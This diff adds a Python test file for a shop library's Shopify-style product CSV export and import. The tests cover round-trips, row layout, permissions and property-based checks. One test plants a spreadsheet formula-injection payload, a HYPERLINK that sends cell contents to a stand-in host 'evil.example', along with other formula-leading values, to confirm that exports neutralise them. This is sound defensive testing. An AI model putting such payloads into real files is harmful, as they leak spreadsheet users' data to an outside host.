@@ -1,0 +1,241 @@
+"""A shop as a file, and the file as the same shop."""
+
+import csv
+import io
+import itertools
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from attrs import evolve
+from hypothesis import HealthCheck, Phase, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from commerce_core import Money, open_shop
+from commerce_core.access.errors import PermissionDenied
+from commerce_core.access.model import GUEST, SYSTEM
+from commerce_core.catalog.drafts import NewCategory, NewImage, NewProduct, NewVariant, ProductChanges
+from commerce_core.catalog.model import ProductStatus, Seo
+from commerce_core.gateways.local_media import PictureFolder
+from commerce_core.imports.model import ImportReport
+from commerce_core.imports.sheet import HEADER
+from commerce_core.inventory.model import Movement, MovementType
+from commerce_core.kernel.csv import unprotected
+from commerce_core.postgres.migrate import migrate
+from commerce_core.settings import Settings
+from commerce_core.testing.builders import Builders
+from commerce_core.wiring import Commerce
+
+FILES = Path(__file__).with_name("files")
+DEMO_SHOP = Path(__file__).parents[3] / "adapters_cli" / "demo_shop"
+
+
+@pytest.fixture
+def another_shop(empty_database_url: str, settings: Settings, tmp_path: Path) -> Iterator[Commerce]:
+    """One that has nothing yet."""
+    migrate(empty_database_url)
+    with open_shop(empty_database_url, settings=evolve(settings, data_dir=str(tmp_path / "another"))) as opened:
+        yield opened
+
+
+def exported(shop: Commerce) -> str:
+    return "".join(shop.imports.export_products(SYSTEM))
+
+
+def imported(shop: Commerce, text: str) -> ImportReport:
+    return shop.imports.import_products(SYSTEM, io.StringIO(text, newline=""))
+
+
+def of_file(shop: Commerce, file: Path) -> ImportReport:
+    with file.open(encoding="utf-8", newline="") as lines:
+        return shop.imports.import_products(SYSTEM, lines, pictures=PictureFolder(file.parent))
+
+
+def rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_both_header_generations_make_the_same_shop(shop: Commerce, another_shop: Commerce) -> None:
+    told = ImportReport(created=3, variants=4, images=4, units=19)
+    assert of_file(shop, FILES / "old-headers.csv") == told
+    assert of_file(shop, FILES / "new-headers.csv") == ImportReport(unchanged=3)
+    assert of_file(another_shop, FILES / "new-headers.csv") == told
+    assert exported(another_shop) == exported(shop)
+    mug = shop.catalog.product("stoneware-mug")
+    assert [(variant.options, variant.price.amount) for variant in mug.variants] == [
+        ({"Colour": "Moss", "Size": "S"}, 2400),
+        ({"Colour": "Moss", "Size": "L"}, 2850),
+    ]
+    assert [image.url[-10:] for image in mug.images] == ["mug-1.webp", "mug-2.webp", "mug-3.webp"]
+    assert mug.description_html.count("\n") == 5
+
+
+def test_an_export_makes_the_same_shop_elsewhere_and_the_same_file_again(
+    shop: Commerce, another_shop: Commerce
+) -> None:
+    of_file(shop, FILES / "old-headers.csv")
+    text = exported(shop)
+    assert imported(shop, text) == ImportReport(unchanged=3)
+    assert imported(another_shop, text) == ImportReport(created=3, variants=4, images=4, units=19)
+    assert exported(another_shop) == text
+    assert another_shop.inventory.verify(SYSTEM) == []
+
+
+def test_the_demo_shop_imports_its_own_export_without_a_change(shop: Commerce) -> None:
+    made = of_file(shop, DEMO_SHOP / "products.csv")
+    text = exported(shop)
+    assert made.problems == ()
+    assert made.images > made.created > 30
+    assert imported(shop, text) == ImportReport(unchanged=made.created)
+    assert exported(shop) == text
+
+
+def test_rows_are_laid_out_as_shopify_lays_them_out(shop: Commerce) -> None:
+    of_file(shop, FILES / "old-headers.csv")
+    gift, apron, mug, large, from_above = rows(exported(shop))
+    assert tuple(mug) == HEADER
+    assert {row["Handle"] for row in (mug, large, from_above)} == {"stoneware-mug"}
+    assert [row["Title"] for row in (mug, large, from_above, gift, apron)] == [
+        "Stoneware mug", "", "", "Gift card", "'=Apron & co",
+    ]  # fmt: skip
+    assert (mug["Option1 Name"], large["Option1 Name"], large["Option1 Value"]) == ("Colour", "", "Moss")
+    assert (mug["Variant Price"], mug["Variant Compare At Price"], mug["Variant Grams"]) == ("24.00", "30.00", "380")
+    assert (mug["Variant Inventory Tracker"], mug["Variant Inventory Qty"]) == ("shopify", "7")
+    assert (large["Variant Inventory Policy"], gift["Variant Inventory Tracker"]) == ("continue", "")
+    assert (from_above["Variant Price"], from_above["Image Position"]) == ("", "3")
+    assert (gift["Option1 Name"], gift["Option1 Value"]) == ("Title", "Default Title")
+    assert [row["Status"] for row in (mug, gift, apron)] == ["active", "draft", "draft"]
+    assert (gift["Published"], gift["Variant Taxable"]) == ("false", "false")
+
+
+def test_no_cell_of_an_export_is_a_formula(shop: Commerce) -> None:
+    evil = '=HYPERLINK("https://evil.example?"&A1)'
+    variant = NewVariant(Money(500, "EUR"), ("@SUM(1)",), sku="-2")
+    seo = Seo(meta_title="+1", meta_description="\t=1")
+    shop.catalog.create_product(
+        SYSTEM,
+        NewProduct(evil, (variant,), vendor="-1+2", option_names=("=1",), tags=("+tag",), seo=seo),
+    )
+    (row,) = rows(exported(shop))
+    assert row["Title"] == f"'{evil}"
+    assert [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)
+
+
+def test_an_export_tells_what_is_on_the_shelf_held_or_not(shop: Commerce, make: Builders) -> None:
+    variant = make.variant(stock=10)
+    make.cart((variant, 3))
+    (row,) = rows(exported(shop))
+    assert row["Variant Inventory Qty"] == "10"
+
+
+def test_stock_beyond_what_a_file_may_open_with_is_exported_and_read_back(shop: Commerce, make: Builders) -> None:
+    variant = make.variant(stock=1_000_000)
+    shop.inventory.move(SYSTEM, Movement(variant, MovementType.RECEIPT, 500_000))
+    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)
+
+
+def test_a_category_is_told_by_a_title_that_leads_back_to_it(shop: Commerce) -> None:
+    older = shop.categories.create(SYSTEM, NewCategory("Mugs", "mugs"))
+    younger = shop.categories.create(SYSTEM, NewCategory("mugs", "mugs-too"))
+    star = shop.categories.create(SYSTEM, NewCategory("★", "star"))
+    for name, category in (("Old", older), ("Young", younger), ("Star", star)):
+        product = NewProduct(name, (NewVariant(Money(1, "EUR")),), category_ids=(category,))
+        shop.catalog.create_product(SYSTEM, product)
+    assert {row["Handle"]: row["Type"] for row in rows(exported(shop))} == {"old": "Mugs", "star": "", "young": ""}
+    assert imported(shop, exported(shop)) == ImportReport(unchanged=3)
+
+
+def test_more_products_than_a_page_are_all_exported_once(shop: Commerce) -> None:
+    text = "Handle,Title,Variant Price\n" + "".join(f"p-{n:03},P {n},1\n" for n in range(250))
+    imported(shop, text)
+    assert [row["Handle"] for row in rows(exported(shop))] == [f"p-{n:03}" for n in range(250)]
+
+
+def test_an_empty_shop_is_a_file_of_names(shop: Commerce) -> None:
+    assert exported(shop).splitlines() == [",".join(HEADER)]
+
+
+def test_a_stranger_gets_no_export(shop: Commerce) -> None:
+    with pytest.raises(PermissionDenied):
+        shop.imports.export_products(GUEST)
+
+
+def test_an_archived_product_keeps_its_status(shop: Commerce) -> None:
+    product = shop.catalog.create_product(SYSTEM, NewProduct("Mug", (NewVariant(Money(1, "EUR")),)))
+    shop.catalog.change_product(SYSTEM, product.id, ProductChanges(status=ProductStatus.ARCHIVED))
+    assert rows(exported(shop))[0]["Status"] == "archived"
+    assert imported(shop, exported(shop)) == ImportReport(unchanged=1)
+
+
+# What people type, with everything that spreadsheets, CSV and HTML could stumble over.
+ODD = st.sampled_from("=+-@'\"<>&;,\t\u00a0 ＝é字a1")
+LINE = st.text(ODD.filter(lambda c: c != "\t") | st.characters(codec="utf-8", exclude_categories=("Cc", "Zl", "Zp")))
+WORDS = LINE.map(lambda text: f"{text[:40]}x{text[40:80]}")
+PIECE = LINE | st.sampled_from(["\r\n", "\n", "\t", "<p>", "</p>", "<b>", "<script>", "&amp;"])
+LONG = st.lists(PIECE, max_size=9).map(lambda pieces: "".join(pieces)[:900])
+PRICE = st.integers(0, 1_000_000)
+NUMBERS = itertools.count()  # A SKU is given once in a shop, and the shop outlives an example.
+
+
+@st.composite
+def variants(draw: st.DrawFn, options: int) -> tuple[NewVariant, ...]:
+    """Of one product. Values that differ in capitals or the white space around them alone are one value in a file."""
+
+    def as_read(key: tuple[str, ...]) -> tuple[str, ...]:
+        return tuple(text.strip().casefold() for text in key)
+
+    keys = draw(st.lists(st.tuples(*[WORDS] * options), min_size=1, max_size=4, unique_by=as_read))
+    made = []
+    for key in keys:
+        price = draw(PRICE)
+        former = draw(st.none() | st.integers(price + 1, price + 1_000))
+        made.append(
+            NewVariant(
+                Money(price, "EUR"),
+                key,
+                sku=draw(st.none() | LINE.map(lambda text: f"{text[:9]}{next(NUMBERS)}{text[9:12]}")),
+                barcode=draw(st.none() | st.sampled_from(["4006381333931", "96385074", "036000291452"])),
+                compare_at_price=None if former is None else Money(former, "EUR"),
+                weight_grams=draw(st.integers(0, 5_000)),
+                taxable=draw(st.booleans()),
+                requires_shipping=draw(st.booleans()),
+            )
+        )
+    return tuple(made)
+
+
+@st.composite
+def products(draw: st.DrawFn) -> NewProduct:
+    names = draw(st.lists(WORDS, max_size=3, unique_by=lambda name: name.strip().casefold()))
+    pictures = draw(st.lists(st.integers(0, 9), unique=True, max_size=4))
+    return NewProduct(
+        title=draw(WORDS),
+        description_html=draw(LONG),
+        status=draw(st.sampled_from([ProductStatus.DRAFT, ProductStatus.ACTIVE])),
+        vendor=draw(st.none() | WORDS),
+        option_names=tuple(names),
+        variants=draw(variants(len(names))),
+        tags=tuple(draw(st.lists(WORDS, max_size=3))),
+        images=tuple(NewImage(f"https://pictures.example/{n}.png", draw(LINE)[:80]) for n in pictures),
+        seo=Seo(meta_title=draw(st.none() | LINE.map(lambda t: t[:80])), meta_description=draw(st.none() | LONG)),
+    )
+
+
+@hypothesis_settings(
+    max_examples=20,
+    deadline=None,
+    phases=[Phase.explicit, Phase.generate],  # A shop remembers, so a smaller example would not be the same.
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+@given(st.lists(products(), min_size=1, max_size=3))
+def test_whatever_a_shop_sells_its_export_changes_nothing(shop: Commerce, made: list[NewProduct]) -> None:
+    for product in made:
+        shop.catalog.create_product(SYSTEM, product)
+    text = exported(shop)
+    report = imported(shop, text)
+    assert (report.problems, report.created, report.updated) == ((), 0, 0)
+    assert report.unchanged == len({row["Handle"] for row in rows(text)})
+    assert exported(shop) == text
+    assert [product.title in {unprotected(row["Title"]) for row in rows(text)} for product in made]
